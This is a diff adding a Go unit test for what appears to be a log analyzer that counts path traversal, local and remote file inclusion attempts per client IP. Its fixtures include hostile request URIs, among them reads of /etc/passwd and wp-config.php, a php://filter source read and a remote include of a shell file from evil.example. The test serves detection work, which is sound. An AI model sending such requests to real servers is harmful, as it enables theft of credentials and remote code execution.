@@ -0,0 +1,41 @@
+package analyzer
+
+import (
+	"reflect"
+	"testing"
+
+	"kinsta-log-analyzer/pkg/parser"
+)
+
+func TestFileInclusionAttemptsByIP(t *testing.T) {
+	a := NewAnalyzer(loadTestConfig(t))
+	for _, r := range []struct{ ip, uri string }{
+		// Traversal and LFI in one request count once for each category.
+		{"192.0.2.1", "/?file=../../etc/passwd"},
+		{"192.0.2.1", "/index.php?page=php://filter/convert.base64-encode/resource=index"},
+		// Two RFI rules matching one request count once.
+		{"192.0.2.2", "/?page=http://evil.example/shell.txt?"},
+		{"192.0.2.2", "/?x=http://203.0.113.9/a"},
+		{"192.0.2.3", "/..%2f..%2fwp-config.php"},
+		{"192.0.2.3", "/wp-login.php?redirect_to=https://example.com/wp-admin/"},
+		{"192.0.2.4", "/blog/"},
+	} {
+		a.processEntry(&parser.LogEntry{ClientIP: r.ip, Method: "GET", URI: r.uri, StatusCode: 404})
+	}
+
+	got := a.generateSecurityAnalysis()
+	want := []SuspiciousIP{
+		{IP: "192.0.2.1", TraversalAttempts: 1, LFIAttempts: 2, TotalRequests: 2, AttackScore: 6},
+		{IP: "192.0.2.2", RFIAttempts: 2, TotalRequests: 2, AttackScore: 4},
+		{IP: "192.0.2.3", TraversalAttempts: 1, TotalRequests: 2, AttackScore: 2},
+	}
+	if !reflect.DeepEqual(got.SuspiciousIPs, want) {
+		t.Errorf("SuspiciousIPs =\n %+v\nwant\n %+v", got.SuspiciousIPs, want)
+	}
+	if got.PathTraversalAttempts != 2 || got.LFIAttempts != 2 || got.RFIAttempts != 2 {
+		t.Errorf("traversal, LFI, RFI = %d, %d, %d, want 2, 2, 2", got.PathTraversalAttempts, got.LFIAttempts, got.RFIAttempts)
+	}
+	if ip := got.AttacksByIP["192.0.2.4"]; ip == nil || ip.attempts() != 0 || ip.TotalRequests != 1 {
+		t.Errorf("AttacksByIP[192.0.2.4] = %+v, want 1 request and no attempts", ip)
+	}
+}